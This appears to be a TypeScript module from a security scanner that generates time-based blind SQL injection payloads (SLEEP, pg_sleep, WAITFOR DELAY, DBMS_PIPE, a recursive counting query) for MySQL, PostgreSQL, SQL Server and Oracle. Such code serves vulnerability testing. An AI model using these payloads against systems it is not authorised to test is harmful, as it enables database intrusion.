import { word } from '../common/words.ts';

/** A value that makes an engine wait, before it answers as if nothing were. */
export interface Delay {
  readonly engine: string;
  write(seconds: number): string;
}

/** Waits of the engines that have a function for it, in quoted texts and in numbers. */
export function delaysOf(text: string, numeric: boolean, random: () => number): Delay[] {
  const name = word(random, 4);
  const delays: Delay[] = [
    {
      engine: 'MySQL or MariaDB',
      write: (s) => `${text}' AND (SELECT 1 FROM (SELECT SLEEP(${s}))${name}) AND '${name}'='${name}`,
    },
    { engine: 'PostgreSQL', write: (s) => `${text}'||(SELECT '' FROM pg_sleep(${s}))||'` },
    { engine: 'Microsoft SQL Server', write: (s) => `${text}';WAITFOR DELAY '0:0:${s}'--` },
    { engine: 'Oracle', write: (s) => `${text}'||DBMS_PIPE.RECEIVE_MESSAGE('${name}',${s})||'` },
  ];
  if (!numeric) return delays;
  return [
    { engine: 'MySQL or MariaDB', write: (s) => `${text} AND (SELECT 1 FROM (SELECT SLEEP(${s}))${name})` },
    { engine: 'PostgreSQL', write: (s) => `${text}+(SELECT 0 FROM pg_sleep(${s}))` },
    { engine: 'Microsoft SQL Server', write: (s) => `${text};WAITFOR DELAY '0:0:${s}'--` },
    ...delays,
  ];
}

/** For engines without such a function: a value that makes them count. */
export const work =
  (text: string) =>
  (steps: number): string =>
    `${text}'||(WITH RECURSIVE kq(n) AS (SELECT 1 UNION ALL SELECT n+1 FROM kq WHERE n<${steps}) SELECT substr(count(*),1,0) FROM kq)||'`;
